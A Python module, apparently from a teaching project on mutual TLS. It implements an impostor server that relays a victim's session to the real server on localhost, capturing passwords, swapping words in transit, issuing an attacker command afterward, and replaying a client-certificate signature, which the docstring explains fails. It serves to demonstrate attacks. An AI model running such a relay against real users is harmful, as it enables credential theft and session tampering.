"""A server that passes itself off as another, and hands on what it is given to the real one.

The victim's client does everything right: TLS, a valid certificate, the name that was asked for.
There are two ways to that certificate:

* **Phishing.** It is for the attacker's own name, which looks like the real one. Any CA of the
  web issues it, and should: it says who has that name, not who is honest.
* **An on-path proxy.** It is for the real name, from a CA of the attacker's that the victim's
  device trusts: installed by an employer, by malware, by a bad vendor.

Either way the victim's connection ends here, and everything in it is the attacker's to read. What
can be handed on to the real server is handed on: a password, which is all that it asks for. A
client certificate is handed on as well, with the signature that came with it; but that signature
is over *this* handshake, with this server's certificate in it, and the real server verifies it
over its own.
"""

from __future__ import annotations

import ssl
from collections.abc import Callable
from dataclasses import dataclass, field

import trio

from mtls_echo.attacks.bank import TIMEOUT
from mtls_echo.attacks.copies import present_copy, replay_signature, signature_in
from mtls_echo.attacks.relay import Relay
from mtls_echo_client.session import Session, connect
from mtls_echo_tls.diagnosis.failure import TLSFailure
from mtls_echo_tls.diagnosis.report import Report
from mtls_echo_tls.stream.tls import TLSStream
from mtls_echo_tls.trace.messages import Message


@dataclass(frozen=True)
class Site:
    """The real server: where it is, its name, and a client's context for it."""

    port: int
    name: str
    context: Callable[[], ssl.SSLContext]


@dataclass
class Impostor:
    """An attacker's server: its `serve` is the handler of one that is traced.

    Args:
        site: Where everything is handed on to.
        order: What it has the real server do when the victim has left.
        swap: What it replaces in the victim's words by what, and back again in the answers.

    Attributes:
        heard: What victims said, in the clear.
        certificate: The victim's, if it was asked for one; DER.
        signature: The CertificateVerify that came with it.
        victims_handshake, own_handshake: The messages of both, as mallory's ends recorded them.
        answers: What the real server said to the attacker's own order.
        refusal: The report of the attacker's client, when the real server let nothing through.
    """

    site: Site
    order: str | None = None
    swap: tuple[str, str] | None = None
    heard: list[str] = field(default_factory=list[str])
    answers: list[str] = field(default_factory=list[str])
    certificate: bytes | None = None
    signature: bytes | None = None
    victims_handshake: list[Message] = field(default_factory=list[Message])
    own_handshake: list[Message] = field(default_factory=list[Message])
    refusal: Report | None = None

    async def serve(self, victim: TLSStream) -> None:
        """Hand on everything between a victim and the real server."""
        async with trio.open_nursery() as nursery:
            port = self.site.port
            context = self.site.context()
            if chain := victim.evidence.peer_chain:
                self.certificate = chain[0]
                self.victims_handshake = list(victim.evidence.recorder.messages)
                self.signature = signature_in(self.victims_handshake)
                present_copy(context, chain[0])
            if self.signature is not None:
                relay = Relay(port, replay_signature(self.signature))
                port = await nursery.start(relay.run)
            try:
                async with await connect(
                    "127.0.0.1", port, context, server_name=self.site.name, timeout=TIMEOUT
                ) as session:
                    await self._hand_on(victim, session)
            except TLSFailure as failure:
                self._refused(failure)
            nursery.cancel_scope.cancel()

    async def _hand_on(self, victim: TLSStream, session: Session) -> None:
        async with trio.open_nursery() as nursery:

            async def answer() -> None:
                try:
                    while True:
                        await victim.send_all(self._altered(await session.receive(), back=True))
                except TLSFailure as failure:
                    self._refused(failure)
                    nursery.cancel_scope.cancel()

            nursery.start_soon(answer)
            while said := await victim.receive_some():
                self.heard += said.decode("utf-8", "replace").splitlines()
                await session.send(self._altered(said))
            nursery.cancel_scope.cancel()
        if self.order is not None and self.refusal is None:
            await session.send(f"{self.order}\n".encode())
            self.answers += (await session.receive()).decode("utf-8", "replace").splitlines()

    def _altered(self, words: bytes, *, back: bool = False) -> bytes:
        if self.swap is None:
            return words
        said, meant = self.swap[::-1] if back else self.swap
        return words.replace(said.encode(), meant.encode())

    def _refused(self, failure: TLSFailure) -> None:
        self.refusal = failure.report
        self.own_handshake = list(failure.evidence.recorder.messages)
